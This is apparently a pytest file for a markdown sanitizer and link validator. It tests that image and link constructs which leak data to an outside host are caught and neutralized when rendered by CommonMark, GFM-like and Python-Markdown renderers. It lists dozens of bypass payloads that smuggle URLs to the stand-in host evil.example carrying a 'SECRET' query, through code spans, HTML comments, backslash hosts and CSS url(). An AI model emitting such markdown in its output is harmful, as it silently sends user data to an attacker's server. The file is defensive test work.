"""Links and SafeMarkdown against constructs whose parse differs between renderers.

Each case is text that a CommonMark renderer (or Python-Markdown) turns into a live image or link
although a simpler reading sees none: brackets hidden in code spans or raw HTML, labels spanning
lines, HTML comments and unclosed attribute values, a bare URL running into an image, backslashes
that a browser reads as slashes. The differential property test at the end renders what
SafeMarkdown returns with real renderers and parses the HTML, so it judges the result, not the
scanner.
"""

from __future__ import annotations

import importlib
import re
import time
import unicodedata
import urllib.parse
from collections.abc import Callable

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

import guardkit as gk
from guardkit.sanitizers._markdown import SafeMarkdown
from guardkit.validators._links import Links

ALLOWED = ("docs.python.org",)
EVIL = "https://evil.example/p.png?q=SECRET"

# -- renderers and an HTML oracle -----------------------------------------------------------------

markdown_it = pytest.importorskip("markdown_it")
html5lib = pytest.importorskip("html5lib")


def _renderers() -> dict[str, Callable[[str], str]]:
    found: dict[str, Callable[[str], str]] = {
        "commonmark": markdown_it.MarkdownIt("commonmark", {"html": True}).render,
        "gfm-like": markdown_it.MarkdownIt("gfm-like", {"html": True, "linkify": True}).render,
    }
    try:
        markdown = importlib.import_module("markdown")  # Python-Markdown, installed with mkdocs
    except ImportError:  # pragma: no cover - optional third renderer
        pass
    else:
        found["python-markdown"] = markdown.markdown
    return found


RENDERERS = _renderers()
_FETCH_ATTRS = frozenset(("src", "srcset", "poster", "background", "data", "lowsrc", "dynsrc"))
_C0 = "".join(chr(c) for c in range(33))


def _host(url: str) -> str | None:
    """The host a browser contacts for *url*; None when it is relative or has no host."""
    url = re.sub(r"[\t\n\r]", "", url.strip(_C0))
    m = re.match(r"([A-Za-z][A-Za-z0-9+.\-]*):", url)
    if m:
        if m.group(1).lower() not in ("http", "https", "ftp", "ws", "wss"):
            return None
        rest = url[m.end() :].lstrip("/\\")
    elif url[:2] in ("//", "\\\\", "/\\", "\\/"):
        rest = url.lstrip("/\\")
    else:
        return None
    authority = re.split(r"[/\\?#]", rest, maxsplit=1)[0].rpartition("@")[2]
    host = authority[1:].split("]")[0] if authority.startswith("[") else authority.split(":")[0]
    host = unicodedata.normalize("NFKC", urllib.parse.unquote(host)).lower()
    return host.rstrip(".")


def _css_unescape(value: str) -> str:
    def one(m: re.Match[str]) -> str:
        return chr(int(m.group(1), 16)) if m.group(1) else m.group(2)

    return re.sub(r"\\(?:([0-9A-Fa-f]{1,6}) ?|(.))", one, value)


def _css_urls(style: str) -> list[str]:
    """url(...) values, and strings where CSS loads them (``@import "..."``, ``image-set("...")``),
    CSS escapes undone as a browser does."""
    found = re.findall(r"url\(\s*['\"]?((?:\\[0-9A-Fa-f]{1,6} ?|\\.|[^'\")\s\\])*)", style, re.I)
    found += [s for _, s in re.findall(r"(?:@import|[(,])\s*(['\"])(.*?)\1", style, re.I)]
    return [_css_unescape(url) for url in found]


def live(html: str) -> list[tuple[str, str]]:
    """(fetch|link, url) for every URL in *html* that reaches a host outside ALLOWED."""
    root = html5lib.parseFragment(html, treebuilder="etree", namespaceHTMLElements=False)
    urls: list[tuple[str, str]] = []
    for element in root.iter():
        if not isinstance(element.tag, str):
            continue
        tag = element.tag.rpartition("}")[2].lower()
        for key, value in element.attrib.items():
            name = key.rpartition("}")[2].lower()
            if name in _FETCH_ATTRS:
                urls += [("fetch", c.split()[0]) for c in value.split(",") if c.split()]
            elif name == "href":
                urls.append(("fetch" if tag in ("link", "image", "use") else "link", value))
            elif name == "style":
                urls += [("fetch", u) for u in _css_urls(value)]
        if tag == "style" and element.text:
            urls += [("fetch", u) for u in _css_urls(element.text)]
    found = []
    for kind, url in urls:
        host = _host(url)
        if host is not None and not any(host == d or host.endswith("." + d) for d in ALLOWED):
            found.append((kind, url))
    return found


def live_images(markdown: str) -> dict[str, list[str]]:
    """Per renderer, the off-list URLs that the rendered *markdown* makes a browser fetch."""
    out = {}
    for name, render in RENDERERS.items():
        fetched = [url for kind, url in live(render(markdown)) if kind == "fetch"]
        if fetched:
            out[name] = fetched
    return out


def live_any(markdown: str) -> dict[str, list[tuple[str, str]]]:
    """Per renderer, every off-list URL (fetched or linked) in the rendered *markdown*."""
    out = {}
    for name, render in RENDERERS.items():
        found = live(render(markdown))
        if found:
            out[name] = found
    return out


# -- the reported bypasses --------------------------------------------------------------------------

BYPASSES = {
    "code span holds ]": f"![x`]`]({EVIL})",
    "html attribute holds ]": f'![x<span title="]">]({EVIL})',
    "autolink holds ]": f"![x<https://a.example/]>]({EVIL})",
    "code span holds [": f"](![`[x](~~~\n[`](<{EVIL}>)`",
    "code span holds ](u)": f"![y `](/ok.png)` ]({EVIL})",
    "label over lines": f"![a][r]\n\n[\nr\n]: {EVIL}",
    "label over lines, two words": f"![a][r x]\n\n[r\nx]: {EVIL}",
    "label in a quote over lines": f"![a][r x]\n\n> [r\n> x]: {EVIL}",
    "space between reference parts": f"![x] [r]\n\n[r]: {EVIL}\n\nSee [r].",
    "comment opener in code": f'Use `<!--` then <img src="{EVIL}"> and `-->`.',
    "empty comment <!-->": f'<!--> <img src="{EVIL}"> -->',
    "empty comment <!--->": f'<!---> <img src="{EVIL}"> -->',
    "comment closed by --!>": f'<!-- --!> <img src="{EVIL}"> -->',
    "unclosed comment": f'Hello <!-- <img src="{EVIL}">',
    "unclosed quoted attribute": f'Compare <b x=\'1 with this: <img src="{EVIL}">',
    "unclosed quote, double": f"a <x y=\" <img src='{EVIL}'>",
    "tag in a code span": f'`<a title=\'` <img src="{EVIL}">',
    "bare URL runs into image": f"See https://docs.python.org/![x]({EVIL})",
    "bare URL runs into image, any host": f"See https://a.example/![x]({EVIL})",
    "backslash slash": "![x](\\/evil.example/p.png?q=SECRET)",
    "slash backslash": "![x](/\\evil.example/p.png?q=SECRET)",
    "two backslashes in html": '<img src="\\\\evil.example/p.png?q=SECRET">',
    "backslash slash in html": '<img src="\\/evil.example/p.png?q=SECRET">',
    "entity slashes": "![x](&#47;&#47;evil.example/p.png?q=SECRET)",
    "entity backslash": "![x](&#92;/evil.example/p.png?q=SECRET)",
    "space in destination": "![x](https://evil.example/a b.png)",
    "unclosed angle definition": "[r]: <https://evil.example/x.png\n\n![a][r]",
    "comment lifted out of the line": "<!DOCTYPE x>![a]<!-- c -->(https://evil.example/p.png)",
    "void tag lifted out of the line": "<!DOCTYPE x>![a]<hr>(https://evil.example/p.png)",
    "declaration lifted out of the line": "<!-- c -->![a]<!X>(https://evil.example/p.png)",
    "style sheet": "<style>body{background:url(//evil.example/p.png)}</style>",
    "style sheet string": '<style>@import "//evil.example/x.css";</style>',
    "url() after <!-- in a style sheet": "<style><!--url(https://evil.example/p.png?q=SECRET)",
    "css escape": '<div style="background:url(\\2f\\2f evil.example/p.png)">x</div>',
    "image-set string": "<div style=\"background-image:image-set('//evil.example/p.png' 1x)\">",
}


@pytest.mark.parametrize("markdown", BYPASSES.values(), ids=list(BYPASSES))
def test_links_reports_the_bypass(markdown: str) -> None:
    """Links finds an image the renderers would load (no image host is allowed by default)."""
    assert "EXFIL_IMAGE" in [f.kind for f in Links().check(markdown)]


@pytest.mark.parametrize("markdown", BYPASSES.values(), ids=list(BYPASSES))
def test_the_bypass_is_live_before_cleaning(markdown: str) -> None:
    """The oracle sees the image in at least one renderer's output, so the tests below can fail."""
    assert live_images(markdown)


@pytest.mark.parametrize("images", ["drop", "allow-listed", "defang"])
@pytest.mark.parametrize("markdown", BYPASSES.values(), ids=list(BYPASSES))
def test_safe_markdown_leaves_no_live_image(markdown: str, images: str) -> None:
    """After SafeMarkdown no renderer loads anything off the list, and cleaning is stable."""
    md = SafeMarkdown(images=images, image_domains=ALLOWED)
    cleaned = md.clean(markdown)
    assert live_images(cleaned) == {}
    assert md.clean(cleaned) == cleaned
    assert Links(image_domains=ALLOWED).check(cleaned) == ()


@pytest.mark.parametrize("markdown", BYPASSES.values(), ids=list(BYPASSES))
def test_recommended_policy_rewrites_the_bypass(markdown: str) -> None:
    """The recommended policy no longer returns the text as it was."""
    verdict = gk.Policy.recommended().check_output(markdown)
    assert verdict.blocked or verdict.text != markdown
    assert live_images(verdict.text) == {}


# -- with an allowlist, protocol-relative URLs are as absolute as any ------------------------------

PROTOCOL_RELATIVE = [
    "![x`]`](//evil.example/p.png?q=SECRET)",
    '![x<span title="]">](//evil.example/p.png?q=SECRET)',
    "![a][r]\n\n[\nr\n]: //evil.example/p.png?q=SECRET",
    'Use `<!--` then <img src="//evil.example/p.png?q=SECRET"> and `-->`.',
    '<!-- --!> <img src="//evil.example/p.png?q=SECRET"> -->',
    'Compare <b x=\'1 with this: <img src="//evil.example/p.png?q=SECRET">',
    "Docs: https://docs.python.org/![x](//evil.example/p.png?q=SECRET)",
    "Plain text with a //evil.example/path?q=SECRET link",
    "<//evil.example/p.png?q=SECRET>",
    "[see](url(//evil.example/p.png) here",
]


@pytest.mark.parametrize("markdown", PROTOCOL_RELATIVE)
def test_protocol_relative_urls_are_judged_with_an_allowlist(markdown: str) -> None:
    """Nothing renders to evil.example, image or link, once cleaned with an allowlist."""
    assert Links(allow_domains=ALLOWED).check(markdown)
    for images in ("allow-listed", "defang"):
        md = SafeMarkdown(allow_domains=ALLOWED, images=images)
        cleaned = md.clean(markdown)
        assert live_any(cleaned) == {}, cleaned
        assert md.clean(cleaned) == cleaned


def test_bare_protocol_relative_url_is_found() -> None:
    """linkify turns "//host/path" into a link: it is judged like https://host/path."""
    found = Links(allow_domains=ALLOWED).check("see //evil.example/x?q=1 now")
    assert [(f.kind, f.detail, f.span) for f in found] == [
        ("UNSAFE_LINK", "bare url: host not allowed", (4, 24))
    ]
    assert SafeMarkdown(allow_domains=ALLOWED).clean("see //evil.example/x now") == (
        "see //evil[.]example/x now"
    )


@pytest.mark.parametrize(
    "text", ["x = a//b.c", "// comment here", "path:///usr/lib", "a //b", "https://docs.python.org//x"]
)
def test_double_slashes_that_are_no_link(text: str) -> None:
    """Floor division, comments, "///" and a host without a dot are not protocol-relative links."""
    assert Links(allow_domains=ALLOWED).check(text) == ()


# -- how each construct is read ---------------------------------------------------------------------


@pytest.mark.parametrize(
    "url",
    [
        "\\/evil.example/x.png",
        "/\\evil.example/x.png",
        "\\\\evil.example/x.png",
        "&#92;/evil.example/x.png",
        "&#47;&#47;evil.example/x.png",
        "%2F%2Fevil.example/x.png",
        "/%5Cevil.example/x.png",
        "https&#58;//evil.example/x.png",
        "\\/\\/evil.example/x.png",
    ],
)
def test_backslashes_and_encodings_name_the_host(url: str) -> None:
    """Escapes, references and percent-encoded separators cannot make a host look relative."""
    assert Links(allow_domains=ALLOWED).check(f"![x]({url})")
    assert Links(allow_domains=ALLOWED).check(f'<img src="{url}">')


def test_html_attributes_have_no_backslash_escapes() -> None:
    """In HTML "\\/" stays "\\/" (a browser reads "//"), even with a character reference nearby."""
    found = Links(allow_domains=ALLOWED).check('<img src="\\/evil.example/x.png?a=1&amp;b=2">')
    assert [f.detail for f in found] == ["html img: image host not allowed"]


def test_definition_labels_span_lines() -> None:
    """A label may span lines; its normal form collapses the line breaks and quote markers."""
    text = "![a][r x]\n\n> [r\n> x]: https://evil.example/x.png"
    found = Links(image_domains=["*"], allow_domains=None).check(text)
    assert found == ()  # any image host: nothing to flag, but it was found as the image's
    md = SafeMarkdown(images="drop")
    assert md.clean(text).startswith("a\n\n")


def test_definition_with_unclosed_angle() -> None:
    """Python-Markdown strips "<" from "[r]: <url": the URL is judged without it."""
    found = Links(allow_domains=ALLOWED).check("[r]: <https://evil.example/x.png\n")
    assert [f.detail for f in found] == ["reference definition: image host not allowed"]


@pytest.mark.parametrize(
    "text",
    [
        "![a](https://evil.example/x y.png)",
        "![a](https://evil.example/x.png 'title' junk)",
        "![a](https://evil.example/x\n  y.png)",
        "![a](//evil.example/x y.png)",
    ],
)
def test_destinations_python_markdown_reads(text: str) -> None:
    """Python-Markdown takes "(...)" with spaces as a destination: its first word is judged."""
    assert [f.kind for f in Links().check(text)] == ["EXFIL_IMAGE"]
    assert live_images(text)
    assert live_images(SafeMarkdown().clean(text)) == {}


def test_python_markdown_reading_keeps_links_in_the_text() -> None:
    """A destination only Python-Markdown reads is text for CommonMark: links in it are found."""
    text = "[x]((![a](https://evil.example/p.png?q=S)"
    kinds = {f.kind for f in Links(allow_domains=ALLOWED).check(text)}
    assert kinds == {"EXFIL_IMAGE"}


def test_image_opener_joined_across_lifted_html() -> None:
    """ "!<!-- -->[a](u)" is an image where Python-Markdown lifts the comment out."""
    found = Links(allow_domains=ALLOWED).check("<!DOCTYPE x>!<!-- c -->[a](https://evil.example/p)")
    assert "EXFIL_IMAGE" in [f.kind for f in found]


def test_tags_are_read_inside_comments_and_attributes() -> None:
    """Every "<" starts a tag as far as the scan is concerned: comments and quotes hide nothing."""
    text = "<!-- <img src=\"https://evil.example/a.png\"> --> <b title='<img src=//evil.example/b>'>"
    assert len(Links().check(text)) == 2


def test_tag_in_allowed_link_is_rewritten_in_place() -> None:
    """A bad tag inside a good construct's markup is neutralized; the good construct stays."""
    text = f'<a href="https://docs.python.org/" title="<img src={EVIL}>">docs</a>'
    cleaned = SafeMarkdown(allow_domains=ALLOWED).clean(text)
    assert cleaned.startswith('<a href="https://docs.python.org/" title="')
    assert "<img" not in cleaned
    assert live_any(cleaned) == {}


def test_image_that_a_bare_url_runs_into() -> None:
    """The image is reported on its own span, and rewritten; the allowed URL stays."""
    text = f"See https://docs.python.org/![x]({EVIL})"
    found = Links(allow_domains=ALLOWED).check(text)
    assert [(f.kind, text[f.start : f.start + 4]) for f in found] == [("EXFIL_IMAGE", "![x]")]
    cleaned = SafeMarkdown(allow_domains=ALLOWED, images="allow-listed").clean(text)
    assert cleaned.startswith("See https://docs.python.org/")
    assert live_any(cleaned) == {}


def test_unterminated_tag_is_neutralized_where_it_starts() -> None:
    """A tag still open after `window` characters, with a URL attribute later, loses its "<"."""
    text = '<img alt="' + "x" * 3000 + f'" src="{EVIL}"> and more text'
    found = Links(allow_domains=ALLOWED).check(text)
    # The tag loses its "<"; its URL, now text a linkifier reads, is judged as a link too.
    assert [f.detail for f in found] == ["html img: unterminated", "bare url: host not allowed"]
    assert found[0].span == (0, 4)
    cleaned = SafeMarkdown(allow_domains=ALLOWED).clean(text)
    assert cleaned.startswith("&lt;img alt=")
    assert live_any(cleaned) == {}


def test_long_prose_after_a_comparison_is_not_a_tag() -> None:
    """ "a<b" followed by long prose with no URL attribute anywhere is left alone."""
    text = "if a<b then " + "more words. " * 400 + "End."
    assert Links(allow_domains=ALLOWED).check(text) == ()


def test_css_strings_and_functions() -> None:
    """A quote of the other kind inside a CSS string does not end it; "curl(" is no url()."""
    text = """<div style='background-image:image-set("//evil.example/it&#39;s.png" 1x)'>x</div>"""
    assert [f.kind for f in Links(allow_domains=ALLOWED).check(text)] == ["EXFIL_IMAGE"]
    found = Links(allow_domains=ALLOWED).check('curl("https://evil.example/x")')
    assert [f.detail for f in found] == ["bare url: host not allowed"]
    found = Links(allow_domains=ALLOWED).check("<style>a { b: my-url(//evil.example/x.png) }</style>")
    assert [f.detail for f in found] == ["bare url: host not allowed"]  # my-url() is no url()


def test_definition_close_to_an_image_label_is_judged_as_an_image() -> None:
    """Labels that differ only in punctuation or compatibility forms may match in some renderer:
    the definition is judged by the image rules."""
    text = "[see][r-x] and ![a][r x]\n\n[r-x]: https://any.example/x.png"
    assert [f.kind for f in Links().check(text)] == ["EXFIL_IMAGE"]


def test_last_resort_writes_every_lt_as_a_reference() -> None:
    """Text that never settles loses every "<" to "&lt;": "\\<" is no escape for Python-Markdown."""
    from guardkit.sanitizers._markdown import _neutralize

    rules = SafeMarkdown(allow_domains=ALLOWED)._rules
    out = _neutralize(f'<img src="{EVIL}"> [a](https://evil.example/x) https://evil.example/y', rules)
    assert "<" not in out
    assert live_any(out) == {}


# -- ordinary Markdown is left alone ------------------------------------------------------------

ORDINARY = [
    "[![build](https://docs.python.org/b.svg)](https://docs.python.org/ci) and `code`",
    "Use `a[0]` and `b]` in code, then [docs](https://docs.python.org/3/).",
    "Rust: `vec![1, 2, 3]` and `arr[i](x)`; see [the book](https://docs.python.org/x).",
    "Compare a<b and b>c, or x <y> z, with [docs](https://docs.python.org/).",
    "<!-- a note --> Text with [a link](https://docs.python.org/3/) after a comment.",
    '<span title="a ] bracket">x</span> and [docs](https://docs.python.org/3/).',
    "Reference [docs][py].\n\n[py]: https://docs.python.org/3/",
    "Multi-line [label\ntext][py].\n\n[py]: https://docs.python.org/3/",
    "A footnote[^1] and an array a[i] and ![diagram](/static/d.png).",
    "```\nif a<b and c[0](d, e):\n    pass\n```",
    "See https://docs.python.org/3/library/re.html#re.sub for details.",
]


@pytest.mark.parametrize("markdown", ORDINARY)
def test_ordinary_markdown_is_unchanged(markdown: str) -> None:
    """Answers with allowed links, code and prose are not flagged and come back as they were."""
    assert Links(allow_domains=ALLOWED).check(markdown) == ()
    md = SafeMarkdown(allow_domains=ALLOWED, images="allow-listed")
    assert md.clean(markdown) is markdown


# -- a differential property test against real renderers ----------------------------------------

URLS = [
    EVIL,
    "//evil.example/p.png",
    "\\/evil.example/p.png",
    "/\\evil.example/p.png",
    "&#47;&#47;evil.example/p.png",
    "https://docs.python.org/a.png",
    "/relative.png",
    "https://evil.example/a b.png",
]
# fmt: off
PIECES = [
    "![a](U)", "[t](U)", "![a][r]", "[r]: U", "[\nr\n]: U", "<img src=\"U\">", "<img src=U>",
    "<a href='U'>", "<U>", "U", "url(U)", "<div style=\"background:url(U)\">", "[", "]", "![",
    "](", "(", ")", "`", "``", "\\", "<", ">", "<!--", "-->", "<!-->", "--!>", "<?", "?>",
    "<!X", "<![CDATA[", "]]>", "<span title='", "<b x=\"", "\"", "'", "\n", "\n\n", " ", "x",
    "!", "*", "> ", "- ", "    ", "```\n", "|", ":", "<style>", "</style>", "<!DOCTYPE x>", "</b>",
]
# fmt: on


@st.composite
def mixed_markdown(draw: st.DrawFn) -> str:
    pieces = draw(st.lists(st.sampled_from(PIECES), min_size=1, max_size=14))
    return "".join(
        piece.replace("U", draw(st.sampled_from(URLS))) if "U" in piece else piece for piece in pieces
    )


_CLEANERS = {
    "default": SafeMarkdown(),
    "allow-listed": SafeMarkdown(allow_domains=ALLOWED, images="allow-listed"),
    "defang": SafeMarkdown(allow_domains=ALLOWED, images="defang", links="remove"),
}


@settings(max_examples=250, deadline=None)
@given(text=mixed_markdown())
def test_differential_no_live_exfiltration_after_cleaning(text: str) -> None:
    """Rendered by markdown-it (CommonMark, GFM-like) and Python-Markdown, the cleaned text loads
    no image from, and (with an allowlist) links to no host off the list."""
    for name, md in _CLEANERS.items():
        cleaned = md.clean(text)
        found = live_images(cleaned) if name == "default" else live_any(cleaned)
        assert found == {}, (name, cleaned)
        assert md.clean(cleaned) == cleaned


# -- the new reading stays linear ---------------------------------------------------------------

HOSTILE = {
    "code-span-brackets": "![x`]`",
    "ghost-links": "[a`]`](b) ",
    "multiline-labels": "[\nr\n",
    "tags-in-attributes": "<a title='<img src=x ",
    "unclosed-quote-then-tag": "<b x='<img src=//e.x/a> ",
    "lifted-comments": "!<!-- -->[",
    "bare-into-image": "https://a.example/![x](//e.x/",
    "protocol-relative": "//a.example/x ",
    "css-urls": "url(//a.example/x) ",
    "style-elements": "<style>",
    "lax-destinations": "[a](b c",
    "autolinks-with-spaces": "<https://a b ",
}


def _seconds(unit: str, size: int) -> float:
    text = unit * (size // len(unit))
    links = Links(allow_domains=ALLOWED)
    md = SafeMarkdown(allow_domains=ALLOWED, images="defang")
    started = time.perf_counter()
    links.check(text)
    md.clean(text)
    return time.perf_counter() - started


@pytest.mark.parametrize("case", sorted(HOSTILE))
def test_hostile_input_stays_linear(case: str) -> None:
    """100 KB of each costs about ten times 10 KB."""
    unit = HOSTILE[case]
    small = min(_seconds(unit, 10_000) for _ in range(2))
    large = min(_seconds(unit, 100_000) for _ in range(2))
    assert large < 40 * max(small, 0.01)
    assert large < 20.0
